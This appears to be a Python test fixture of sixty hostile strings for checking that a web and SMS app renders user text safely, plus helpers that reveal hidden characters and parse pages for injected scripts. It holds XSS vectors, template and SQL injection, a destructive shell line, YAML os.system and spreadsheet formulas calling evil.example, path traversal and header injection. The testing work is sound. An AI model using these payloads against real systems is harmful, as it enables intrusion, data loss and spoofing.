"""Sixty texts that somebody may send to run, break, hide or spoof something, wherever a text can be put.

Only the texts, what a page has to show for each, and how to read a page as a browser would. Who puts them where is
said in the tests of each surface.
"""

import unicodedata
from collections.abc import Mapping

from sandbox.wire.text import forcing, measure
from tests.pages.browsing import Intruders

RAN = "window.ran=1"  # what any of them would do: `ran` is the canary that tests look for

CORPUS: Mapping[str, str] = {
    # Markup, and scripts in every context
    "script element": f"<script>{RAN}</script>",
    "script in capitals, unclosed": f"<SCRIPT/x>{RAN}//",
    "image that fails": f"<img src=x onerror={RAN}>",
    "image without blanks": f"<img/src=`x`onerror={RAN}>",
    "vector graphic": f"<svg onload={RAN}>",
    "nested vector script": f"<svg><script>{RAN}</script></svg>",
    "frame with source": f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "body and details events": f"<body onload={RAN}><details open ontoggle={RAN}>",
    "self-focusing input": f"<input autofocus onfocus={RAN}>",
    "mutating markup": f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    "math and style": f"<math><mtext><style><img src=x onerror={RAN}></style></mtext></math>",
    "template element": f"<template><script>{RAN}</script></template>",
    "object and embed": f'<object data="javascript:{RAN}"></object><embed src="javascript:{RAN}">',
    "form that takes over": '<form action="https://evil.example/"><button>Send</button></form>',
    "meta refresh and base": '<meta http-equiv="refresh" content="0;url=//evil.example/"><base href="//evil.example/">',
    "style and link": '<style>*{display:none}</style><link rel="stylesheet" href="//evil.example/x.css">',
    # Out of what surrounds them
    "end of a script": f"</script><script>{RAN}</script>",
    "end of a text area": f"</textarea><script>{RAN}</script>",
    "end of a title": f"</title><script>{RAN}</script>",
    "end of a list and a dialog": f"</p></li></ol></div></main></dialog><script>{RAN}</script>",
    "end of preformatted text": f"</pre></code></details><img src=x onerror={RAN}>",
    "comment": f"--><script>{RAN}</script><!--",
    "character data": f"]]><script>{RAN}</script><![CDATA[",
    "double-quoted attribute": f'" autofocus onfocus="{RAN}" x="',
    "single-quoted attribute": f"' onmouseover='{RAN}' x='",
    "unquoted attribute": f"x onmouseover={RAN} style=color:red",
    "backticks": f"` onmouseover=`{RAN}`",
    "references": "&lt;script&gt; &#60;b&#62; &#x3c;i&#x3e; &amp;amp; &quot; &NotEqualTilde;",
    "javascript address": f"javascript:{RAN}",
    "javascript address in pieces": f"java\tscript:{RAN}//\u00a0 JaVaScRiPt&colon;{RAN}",
    "data address": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    # Languages of others
    "Jinja": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# gone #}",
    "Jinja's globals": "{{ config }} {{ self.__init__.__globals__ }} {{ account.token }}",
    "handlebars, ERB, Angular": "{{#with this}}{{{x}}}{{/with}} <%= 7 * 7 %> {{constructor.constructor('ran=1')()}}",
    "template literal": "${7 * 7} #{7 * 7} `${window.ran=1}`",
    "format of Python": "{0.__class__} {account.token} %(x)s %s %n $x {unbalanced",
    "SQL": "'; DROP TABLE messages; -- \" OR 1=1 /* % _ \\",
    "LIKE and GLOB": "%_*?[a-z]\\%' ESCAPE '\\",
    "shell": "$(touch /tmp/ran) `id` ; rm -rf ~ | tee > x && exit 1 '\"\\ !! $HOME\n-rf *",
    "YAML": "!!python/object/apply:os.system ['id']\n- &a [*a]\n? x: |\n  - {y: #z}\n---\n...",
    "formula of a spreadsheet": '=HYPERLINK("https://evil.example","x")\t+1\t-1\t@SUM(A1)\t|cmd|\' /C calc\'!A0',
    "path": "../../../../etc/passwd %2e%2e%2f ..\\..\\windows\\win.ini file:///etc/passwd %00",
    "JSON": '"}],"to":"2348099999999","x":[{"\\u0022 \\ud800 \\\\" : null, // \u2028',
    "names of a prototype": '__proto__ constructor prototype toString {"__proto__": {"ran": 1}}',
    "pattern that explodes": "(a+)+$ (?P<x>(?:a|aa)*) [[:alpha:]] \\" + "a" * 40 + "!",
    # Lines, terminals, and what cannot be seen
    "headers": "x\r\nSet-Cookie: ran=1\r\nLocation: https://evil.example/\r\n\r\n<script>window.ran=1</script>",
    "event stream": "x\n\ndata: {}\nid: 0\nevent: reset\nretry: 1\n\n: \r\rdata: y",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]52;c;cm0=\x07 \x9b1m \x90q\x9c\b\b\x7f",
    "control characters": "".join(map(chr, [*range(1, 0x20), *range(0x7F, 0xA0)])),
    "NUL": "before\x00after",
    "lone surrogates": "high \ud83d and low \ude00 and turned \ude00\ud83d",
    "bidirectional overrides": "\u202eedoc.exe\u202d \u202aabc\u202b def\u202c invoice\u202egpj.exe",
    "bidirectional isolates": "\u2066abc\u2067def\u2068ghi\u2069 \u200e\u200f\u061c unclosed \u2067",
    "zero width and soft hyphens": "pay\u200bpal \u2060 \ufeffmark \u00adsoft \u180e \u2063 tag\U000e0041\U000e007f",
    "line separators": "one\u2028two\u2029three\u0085four\vfive\fsix",
    # Text that is merely difficult
    "emoji": "👩🏾‍🎓👨‍👩‍👧‍👦🏳️‍🌈🇳🇬👍🏿1️⃣🧑🏻‍❤️‍💋‍🧑🏿 🫠",
    "towers of marks": "Z" + "\u0335\u0321\u0312\u030d\u0301" * 40 + "algo" + "\u0300\u0489" * 40,
    "right to left": "שלום <b>עולם</b> مرحبا (بالعالم) 123 – ‏₦4,500 &rlm; אבג",
    "other planes": "𝒳𝔘𠜎𝟘\U0010ffff\ufffe\uffff\ufdd0 ﷽ Ω≈ç√ ﬁ ⅷ ︎️",
    "one word of 1,600": "W" * 1600,
}


def shown(text: str) -> str:
    """What a person has to see of a text: itself, with a sign for each character that hides or turns its neighbours.

    By Unicode's categories, not by the table of the pages. Joiners stay, with which scripts and emoji are written.
    """
    return "".join(map(_sign, text))


def is_hidden(character: str) -> bool:
    joins = character in "\t\n\u200c\u200d"
    return not joins and unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")


def _sign(character: str) -> str:
    code = ord(character)
    if not is_hidden(character):
        return character
    return chr(0x2400 + code) if code < 0x20 else "␡" if code == 0x7F else f"⟨U+{code:04X}⟩"


def twin(text: str) -> str:
    """A harmless text that costs as much to send: same length, blanks, alphabet and parts, so that a page about it has
    the same elements."""
    return "".join(each if each in " \n" else _harmless(each) for each in text)


def _harmless(character: str) -> str:
    if not is_sendable(character):  # is refused, and so is its twin
        return character
    if forcing(character):
        return "ж" if character <= "\uffff" else "𝒳"
    return "x" if measure(character).units == 1 else "€"


def is_sendable(text: str) -> bool:
    """Whether an SMS can carry it: no NUL, and no half of a pair."""
    return "\0" not in text and not any("\ud800" <= each <= "\udfff" for each in text)


class Reading(Intruders):
    """A page as elements and words; what stands for a hidden character is words, and no element.

    `found` is what a browser would run or fetch that is none of ours.
    """

    VOID = frozenset({"meta", "link", "img", "input", "br", "path", "circle", "line"})
    OFFERS = frozenset({"chips"})  # texts that may be worth sending again
    SPOKEN = frozenset({"title", "aria-label", "placeholder", "alt"})  # attributes that people read or hear

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []  # tag and names of attributes
        self.typed: list[str] = []  # what stands in fields, where it has to be what it is
        self.spoken: list[str] = []
        self.text = ""
        self._open: list[tuple[str, bool]] = []  # tag, and whether what is in it depends on the text by design

    @classmethod
    def of(cls, page: str) -> "Reading":
        made = cls()
        made.feed(page)
        made.close()
        return made

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        super().handle_starttag(tag, attrs)
        given = dict(attrs)
        is_offer = given.get("id") in self.OFFERS or any(offer for _, offer in self._open)
        if tag not in self.VOID:
            self._open.append((tag, is_offer))
        if given.get("class") == "unseen":
            return
        if not is_offer:
            self.elements.append((tag, tuple(sorted(given.keys() - {"selected"}))))
        self.spoken += [value or "" for name, value in attrs if name in self.SPOKEN]
        if tag == "input":
            self.typed.append(given.get("value") or "")
        if tag == "textarea":
            self.typed.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "textarea" and self._is_in("textarea"):
            self.typed[-1] = self.typed[-1].removeprefix("\n")  # the first one is the markup's
        while self._open and self._open.pop()[0] != tag:
            pass

    def _is_in(self, tag: str) -> bool:
        return bool(self._open) and self._open[-1][0] == tag

    def handle_data(self, data: str) -> None:
        if self._is_in("textarea"):
            self.typed[-1] += data
        else:
            self.text += data

    def everywhere(self) -> str:
        """All that can be read, typed or heard."""
        return "\0".join([self.text, *self.typed, *self.spoken])

    def hidden(self) -> list[str]:
        """The characters that nobody can see, where they should have been made visible."""
        return sorted({f"U+{ord(each):04X}" for each in "".join([self.text, *self.spoken]) if is_hidden(each)})
